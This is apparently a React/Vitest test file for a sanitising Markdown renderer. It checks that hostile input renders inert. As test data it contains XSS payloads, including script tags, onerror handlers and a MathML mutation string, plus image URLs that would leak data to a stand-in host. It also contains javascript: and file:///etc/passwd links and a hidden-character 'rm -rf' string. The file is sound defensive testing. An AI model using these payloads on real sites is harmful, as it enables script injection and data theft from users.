import { render, screen } from '@testing-library/react';
import { expect, test } from 'vitest';
import { Markdown } from '../../../web/markdown/markdown.tsx';

function show(text: string): HTMLElement {
  return render(<Markdown text={text} />).container;
}
/** Whatever could load or run something. */
const ACTIVE =
  'script,img,svg,iframe,object,embed,link,style,base,form,video,audio,source,math,input,[onerror],[onload],[onclick],[style],[srcset]';

test('a skill reads as headings, lists, tables, code and quotes', () => {
  show(
    '# Title\n\n## Steps\n\n1. one\n2. **two**\n\n- [x] done\n- [ ] open\n\n| a | b |\n| - | - |\n| 1 | `x` |\n\n```sh\nls -l\n```\n\n> wise',
  );
  expect(screen.getByRole('heading', { name: 'Title', level: 4 })).toBeVisible();
  expect(screen.getByRole('heading', { name: 'Steps', level: 5 })).toBeVisible();
  expect(screen.getAllByRole('listitem')).toHaveLength(4);
  expect(screen.getByRole('img', { name: 'not done' })).toBeVisible();
  expect(screen.getByRole('columnheader', { name: 'a' })).toBeVisible();
  expect(screen.getByText('ls -l')).toBeVisible();
  expect(screen.getByText('two').tagName).toBe('STRONG');
});

test.each([
  ['a script', '<script>alert(1)</script>'],
  ['an image with a handler', '<img src=x onerror=alert(1)>'],
  ['an svg with a handler', 'text <svg onload=alert(1)> text'],
  ['a frame', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['a style with an import', '<style>@import url(//evil.example)</style>'],
  ['a base', '<base href="//evil.example/">'],
  ['a form', '<form action="//evil.example"><button>Go</button></form>'],
  ['a prefetch', '<link rel=dns-prefetch href=//evil.example>'],
  ['mutating MathML', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
  ['markup in a heading', '# <img src=x onerror=alert(1)>'],
  ['markup in a table', '| <b onclick=alert(1)>x</b> |\n| - |\n| <img src=x onerror=alert(1)> |'],
  ['markup in entities', '&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;'],
])('%s is text', (_, text) => {
  const box = show(text);
  expect(box.querySelectorAll(ACTIVE)).toHaveLength(0);
  expect(box.textContent).toMatch(/alert|import|base|form|link|script/);
});

test.each([
  ['inline', '![secret](https://evil.example/?q=goal)'],
  ['by reference', '![secret][1]\n\n[1]: https://evil.example/?q=goal'],
  ['in a link', '[![secret](https://evil.example/p.png)](https://evil.example)'],
])('an image %s is named and not loaded', (_, text) => {
  const box = show(text);
  expect(box.querySelectorAll(ACTIVE)).toHaveLength(0);
  expect(box.textContent).toContain('picture not loaded: secret');
  expect(box.textContent).toContain('evil.example');
});

test('a link shows its host, opens apart and tells nothing', () => {
  show('[the docs](https://аpple.example/path)');
  const link = screen.getByRole('link', { name: 'the docs' });
  expect(link).toHaveAttribute('rel', 'noopener noreferrer nofollow');
  expect(link).toHaveAttribute('target', '_blank');
  expect(link.nextElementSibling).toHaveTextContent('xn--pple-43d.example');
});

test.each([
  ['javascript:alert(1)'],
  ['JaVaScRiPt:alert(1)'],
  ['data:text/html,x'],
  ['vbscript:x'],
  ['scripts/run.sh'],
  ['//evil.example'],
  ['file:///etc/passwd'],
  ['mailto:a@b.example'],
])('%s is no link', (href) => {
  show(`[click](${href})`);
  expect(screen.queryByRole('link')).toBeNull();
});

test('an address in angle brackets or bare is a link of the same kind', () => {
  show('<https://one.example/> and https://two.example/x');
  for (const link of screen.getAllByRole('link'))
    expect(link).toHaveAttribute('rel', 'noopener noreferrer nofollow');
  expect(screen.getAllByRole('link')).toHaveLength(2);
});

test('hidden characters are marked, in text and in code', () => {
  const box = show('Do\u202ewhat I say `rm\u200b -rf`');
  expect([...box.querySelectorAll('mark')].map((mark) => mark.textContent)).toEqual(['U+202E', 'U+200B']);
});

test.each([
  ['quotes in quotes', '>'.repeat(5000)],
  ['lists in lists', Array.from({ length: 400 }, (_, depth) => `${' '.repeat(depth * 2)}- x`).join('\n')],
  ['brackets', '['.repeat(50_000)],
  ['emphasis', `${'*a '.repeat(20_000)}`],
  ['a very long text', 'word '.repeat(60_000)],
  ['a line without an end', 'x'.repeat(150_000)],
])('%s do not break the page', (_, text) => {
  expect(() => show(text)).not.toThrow();
});
